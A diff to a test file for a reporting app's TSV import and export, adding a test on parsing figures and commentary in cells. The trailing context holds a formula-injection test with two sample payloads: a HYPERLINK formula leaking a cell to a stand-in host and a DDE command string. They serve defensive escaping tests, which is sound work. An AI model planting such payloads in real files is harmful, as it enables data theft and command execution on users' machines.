@@ -190,6 +190,33 @@ describe("reports from other years and partnerships", () => {
     expect(again.json().summary).toMatchObject({ returnsWritten: 0, returnsUnchanged: 5 });
   });
 
+  it("stores a figure on a cell's first line as the figure and the lines after it as its words, stating it once", async () => {
+    const text = [
+      row("Year 1 - April 2013 to March 2014"),
+      row("Priority 1", "Reducing reoffending"),
+      row("Outcome", "Fewer people reoffend"),
+      row("Ref", "Activities", "Data collation", "Q1", "Q2", "Q3", "Q4", "Trend"),
+      row("R1", "Repeat incident rate", "Probation Service", '"31.5% (rolling 12 months)\nDown on last year"', '"32.0%\nThe rate was 32.0% last quarter too"', "30.5%"),
+    ].join("\n");
+    const imported = await importText(text, "2013/14");
+    expect(imported.statusCode, imported.body).toBe(200);
+    const year = await test.db.prisma.reportingYear.findUniqueOrThrow({ where: { label: "2013/14" } });
+    const returns = await test.db.prisma.return.findMany({ where: { quarter: { yearId: year.id } }, include: { values: true, quarter: true }, orderBy: { quarterId: "asc" } });
+    expect(returns.map((found) => ({ figure: found.values[0]?.number?.toString() ?? null, period: found.periodCovered, commentary: found.commentary }))).toEqual([
+      { figure: "31.5", period: "rolling 12 months", commentary: "Down on last year" },
+      // Its words restate the figure: left out of them, the report would not read as the document, so the cell stays words.
+      { figure: null, period: null, commentary: "32.0%\nThe rate was 32.0% last quarter too" },
+      { figure: "30.5", period: expect.anything(), commentary: null },
+    ]);
+    const report = (await admin.get(`/api/reports/${year.id}`)).json() as Report;
+    const cells = report.priorities[0]!.lines[0]!.cells;
+    expect(cells[0]).toBe("31.5% (rolling 12 months)\nDown on last year");
+    expect(cells[0]!.match(writtenFigurePattern("31.5"))).toHaveLength(1);
+
+    const again = await importText((await admin.get(`/api/reports/${year.id}.tsv`)).body, "2013/14");
+    expect(again.json().summary).toMatchObject({ returnsWritten: 0, returnsUnchanged: 3 });
+  });
+
   it("keeps text that looks like a formula through export and import: the TSV escapes it, the import takes the apostrophe off", async () => {
     const HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")';
     const DDE = "+cmd|' /C calc'!A0";
